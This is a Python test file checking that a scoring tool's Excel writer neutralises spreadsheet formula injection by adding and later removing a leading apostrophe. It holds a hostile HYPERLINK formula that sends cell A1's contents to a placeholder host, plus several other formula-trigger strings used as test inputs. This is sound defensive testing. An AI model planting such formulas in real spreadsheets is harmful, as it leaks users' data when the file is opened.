"""No text kaohe writes to Excel becomes a formula (issue 8 §2.3): one helper, kaohe.core.xlsx_text, in every
openpyxl writer; reading kaohe's own workbook back removes exactly the apostrophe it added."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from kaohe.cli import main
from kaohe.core.tables import read_raw, read_units
from kaohe.core.xlsx_text import restore, safe, safe_row

HOSTILE = '=HYPERLINK("http://x?x="&A1,"click")'
MINI = Path(__file__).parent / "data" / "mini.yaml"


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_text_a_spreadsheet_would_evaluate_gets_an_apostrophe(text: str) -> None:
    assert safe(text) == "'" + text
    assert restore(safe(text)) == text


@pytest.mark.parametrize("value", ["甲区", "a=b", "'quoted", "'", "", None, 3, -2.5, True])
def test_everything_else_passes_unchanged(value: object) -> None:
    assert safe(value) == value
    assert restore(value) == value  # only an apostrophe in front of = + - @ tab CR is ours


def test_restore_removes_one_apostrophe_only() -> None:
    assert restore("''=1") == "''=1"  # not a text safe() wrote: left as it is
    assert safe_row(["=1", 2, None]) == ["'=1", 2, None]


def no_formula_anywhere(path: Path) -> list[str]:
    """Every cell of every sheet: the text cells that hold the hostile name (none may be a formula)."""
    found = []
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    assert cell.data_type == "s"
                    found.append(cell.value)
    return found


def test_kaohe_score_writes_a_hostile_unit_and_section_name_as_text(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    inputs = tmp_path / "in.csv"
    with inputs.open("w", encoding="utf-8", newline="") as f:
        w = csv.writer(f)
        w.writerow("unit_id,unit_name,sequence,sections,missed,infv,met,improved,aqi,aqi_e,aqi_s,incident".split(","))
        # the section name starts the reason line of the 加扣分明细 sheet: "=HYPERLINK(…) 水质不达标 2 月次 ×5"
        w.writerow(["a", HOSTILE, "d", HOSTILE, "2", "0", "false", "0", "88", "92", "95", "否"])
        w.writerow(["b", "-乙区", "d", "A", "0", "0", "true", "0", "93.5", "92", "95", "否"])
    out = tmp_path / "results.xlsx"
    assert main(["score", "--scheme", str(MINI), "--inputs", str(inputs), "--out", str(out)]) == 0
    found = no_formula_anywhere(out)
    assert "'" + HOSTILE in found  # the unit name, on the sequence sheet and on 指标得分
    assert any(v.startswith("'" + HOSTILE + " ") for v in found)  # the reason line
    ws = load_workbook(out)["区"]
    assert "'-乙区" in [c.value for c in ws["C"]]


def test_the_inputs_template_round_trips_a_hostile_unit_name(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    units = tmp_path / "units.csv"
    with units.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["unit_id", "unit_name", "sequence"], ["a", HOSTILE, "d"], ["+1", "乙区", "d"]])
    out = tmp_path / "template.xlsx"
    assert main(["inputs-template", "--scheme", str(MINI), "--units", str(units), "--out", str(out)]) == 0
    assert no_formula_anywhere(out) == ["'" + HOSTILE]
    frame, _sheet = read_raw(out)
    assert frame.select(frame.columns[:2]).rows()[:2] == [("a", HOSTILE), ("+1", "乙区")]
    assert read_units(out).get_column("unit_name").to_list()[:2] == [HOSTILE, "乙区"]
